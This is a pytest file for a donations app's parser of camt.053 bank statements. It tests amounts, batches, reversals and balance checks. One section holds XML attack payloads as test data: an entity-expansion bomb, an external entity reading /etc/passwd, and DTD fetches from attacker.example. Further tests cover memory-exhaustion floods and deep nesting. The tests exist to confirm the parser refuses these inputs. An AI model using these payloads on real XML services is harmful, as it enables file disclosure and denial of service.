"""camt.053 of seven versions: what it says is read, what it hides is refused."""

from datetime import date

import pytest

from donations.statements.camt_statement import CamtStatement
from donations.statements.entries import StatementError
from tests.donations.statements.reader import entries, heads
from tests.factories.statements import (
    NAMESPACE,
    OURS,
    Paid,
    camt,
    camt_entry,
    camt_file,
    camt_statement,
    camt_transaction,
)

REFERENCE = "RF18539007547034"


@pytest.mark.parametrize("version", ["02", "03", "04", "05", "06", "07", "08"])
def test_every_version_tells_the_same_payment(version):
    content = camt([Paid("1050.50", "a gift", REFERENCE, bank="B1")], version=version)
    (head,), (entry,) = heads(content), entries(content)
    assert (head.account, head.number, head.currency) == (OURS, "S1", "EUR")
    assert (entry.minor, entry.currency, entry.is_credit, entry.booked_on) == (
        105050,
        "EUR",
        True,
        date(2026, 11, 2),
    )
    assert (entry.structured, entry.text, entry.payer) == ((REFERENCE,), ("a gift",), "Maria Example")
    assert entry.bank_reference == "B1" and not entry.is_reversal


@pytest.mark.parametrize("kind", ["camt.053.001.01", "camt.053.001.12", "camt.054.001.08", "pain.001.001.03"])
def test_other_messages_are_refused(kind):
    content = camt().replace(f"{NAMESPACE}08".encode(), f"urn:iso:std:iso:20022:tech:xsd:{kind}".encode())
    with pytest.raises(StatementError, match=r"line 1: this is not camt\.053\.001\.02 to \.08"):
        entries(content)


def test_decimals_follow_the_currency():
    (dinar,) = entries(camt([Paid("12.345", currency="KWD")], currency="KWD", closing="112.345"))
    (yen,) = entries(camt([Paid("5000", currency="JPY")], currency="JPY", closing="5100"))
    assert (dinar.minor, dinar.exponent, yen.minor, yen.exponent) == (12345, 3, 5000, 0)


@pytest.mark.parametrize("amount", ["1,000.00", "-5.00", "5.001", "NaN", "1e3", "", "٥٠", "9" * 20, "9" * 14])
def test_an_amount_that_is_no_plain_number_is_refused(amount):
    inside = camt_entry(Paid(amount))
    with pytest.raises(StatementError, match="amount"):
        entries(camt(inside=inside))


def test_what_is_only_announced_is_no_payment():
    assert entries(camt([Paid("50.00", status="PDNG"), Paid("20.00", status="INFO")])) == []


def test_a_batch_with_amounts_inside_is_as_many_payments():
    first, second = Paid("30.00", "one"), Paid("20.00", "two")
    details = camt_transaction(first, amount="30.00") + camt_transaction(second, amount="20.00")
    content = camt(inside=camt_entry(Paid("50.00", bank="B7"), details=details), closing="150.00")
    one, two = entries(content)
    assert (one.minor, one.text, two.minor, two.text) == (3000, ("one",), 2000, ("two",))
    assert one.identity != two.identity and not one.is_unclear


def test_a_batch_whose_parts_do_not_add_up_stays_whole_and_says_so():
    details = camt_transaction(Paid("", "one"), amount="30.00") + camt_transaction(Paid("", "two"), amount="19.00")
    (whole,) = entries(camt(inside=camt_entry(Paid("50.00"), details=details), closing="150.00"))
    assert (whole.minor, whole.is_unclear, whole.text) == (5000, True, ("one", "two"))


def test_a_batch_without_amounts_stays_whole():
    details = camt_transaction(Paid("", "one")) + camt_transaction(Paid("", "two"))
    (whole,) = entries(camt(inside=camt_entry(Paid("50.00"), details=details), closing="150.00"))
    assert (whole.minor, whole.is_unclear) == (5000, True)


def test_money_that_goes_out_and_reversals_are_told_apart():
    out, undone, back = entries(camt([Paid("5.00", mark="D"), Paid("6.00", mark="RC"), Paid("7.00", mark="RD")]))
    assert (out.is_credit, out.is_reversal) == (False, False)
    assert (undone.is_credit, undone.is_reversal) == (False, True)
    assert (back.is_credit, back.is_reversal) == (True, True)


@pytest.mark.parametrize(
    "why", ["<Rsn><Cd>AC04</Cd></Rsn>", "<Rsn><Prtry>X1</Prtry></Rsn>", "<AddtlInf>back</AddtlInf>"]
)
def test_a_return_is_one_in_whatever_words_the_bank_says_why(why):
    back = camt_transaction(Paid("50.00", REFERENCE)).replace("</TxDtls>", f"<RtrInf>{why}</RtrInf></TxDtls>")
    (one,) = entries(camt(inside=camt_entry(Paid("50.00"), details=back), closing="150.00"))
    (some,) = entries(camt(inside=camt_entry(Paid("50.00", mark="D"), details=back * 2), closing="50.00"))
    assert one.is_reversal and one.is_credit
    assert some.is_reversal and some.is_unclear


def test_a_statement_that_does_not_add_up_is_refused():
    with pytest.raises(StatementError, match="do not add up"):
        entries(camt([Paid("50.00")], closing="149.99"))


def test_a_page_of_a_longer_statement_needs_not_add_up():
    page = camt_statement([Paid("50.00")], page="1", closing="900.00")
    assert len(entries(camt_file(page))) == 1


def test_a_file_that_breaks_off_is_refused():
    content = camt([Paid("50.00")] * 3)
    with pytest.raises(StatementError, match="not whole XML"):
        entries(content[: len(content) // 2])


def test_what_a_bank_adds_in_its_own_namespace_is_passed_over():
    added = '<x:Ntry xmlns:x="urn:bank"><x:Amt Ccy="EUR">9.00</x:Amt></x:Ntry>'
    (entry,) = entries(camt([Paid("50.00")], inside=added))
    assert entry.minor == 5000


@pytest.mark.parametrize(
    "declared",
    [
        '<!DOCTYPE Document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE Document [<!ENTITY secret SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE Document SYSTEM "http://attacker.example/x.dtd">',
        '<!DOCTYPE Document [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>',
        "<!DOCTYPE Document>",
    ],
    ids=["bomb", "file", "foreign document type", "parameter entity", "empty"],
)
def test_an_attacker_who_declares_entities_gets_nothing_expanded_or_fetched(declared):
    content = camt_file(camt_statement([Paid("50.00", "&b;&secret;")]), before=declared)
    with pytest.raises(StatementError, match="document type"):
        entries(content)


@pytest.mark.parametrize(
    "many",
    [
        lambda number: f"<a{number}>1</a{number}>",
        lambda number: "<Amt>1</Amt>",
        lambda number: '<Amt Ccy="EUR"></Amt>',
    ],
    ids=["of many names", "of one name", "of one attribute"],
)
def test_an_attacker_who_fills_a_statement_with_small_elements_is_refused_before_they_fill_memory(many):
    with pytest.raises(StatementError, match="longer than any bank"):
        entries(camt([Paid("50.00")], inside="".join(many(number) for number in range(1_100))))


def test_an_attacker_who_fills_one_entry_with_full_payments_is_refused_before_they_fill_memory():
    statement, full = CamtStatement({}), {"AddtlTxInf": ["x"] * 1_000, "Unknown": ["x" * 4_000] * 1_000}
    taken = 0
    with pytest.raises(StatementError, match="more payments in it than any bank"):
        while taken < 5_000:
            statement.take("TxDtls", full)
            taken += 1
    assert 1_000 < taken < 2_000


def test_a_batch_of_as_many_usual_payments_as_ever_is_taken_whole():
    statement = CamtStatement({"Acct/Id/IBAN": [OURS]})
    usual = {"Amt": ["1.00"], "Amt@Ccy": ["EUR"], "Refs/EndToEndId": ["x" * 20], "RmtInf/Ustrd": ["x" * 60],
             "RltdPties/Dbtr/Nm": ["x" * 30]}  # fmt: skip
    for _payment in range(100_000):
        statement.take("TxDtls", usual)
    entry = {"Sts": ["BOOK"], "Amt": ["100000.00"], "Amt@Ccy": ["EUR"], "CdtDbtInd": ["CRDT"],
             "BookgDt/Dt": ["2026-11-02"]}  # fmt: skip
    assert len(statement.take("Ntry", entry)) == 100_001


def test_an_attacker_who_nests_elements_without_end_is_refused_early():
    with pytest.raises(StatementError, match="too deep"):
        entries(camt(inside="<a>" * 100_000))


def test_an_attacker_who_fills_one_element_is_refused_early():
    with pytest.raises(StatementError, match="longer than any bank"):
        entries(camt(inside=camt_entry(Paid("1.00", "x" * 100_000))))


@pytest.mark.parametrize(
    "inside",
    [
        '<Ntry x="' + "x" * 3_000_000,
        "<!--" + "x" * 3_000_000,
        camt_entry(Paid("1.00"), details="<TxDtls><RmtInf>" + "<Ustrd>x</Ustrd>" * 2_000 + "</RmtInf></TxDtls>"),
        camt_entry(Paid("1.00"), details="<TxDtls/>" * 100_001),
    ],
    ids=["attribute", "comment", "lines", "batch"],
)
def test_an_attacker_who_makes_one_thing_endless_is_refused_before_it_takes_memory(inside):
    with pytest.raises(StatementError, match=r"than any bank"):
        entries(camt(inside=inside))


def test_an_unknown_encoding_is_refused():
    with pytest.raises(StatementError):
        entries(camt().replace(b"UTF-8", b"UTF-99"))


def test_a_payer_from_anywhere_is_read():
    (entry,) = entries(camt([Paid("5.00", "شكرا RF", payer="Zoë <Ö> & 李")]))
    assert (entry.payer, entry.text) == ("Zoë <Ö> & 李", ("شكرا RF",))
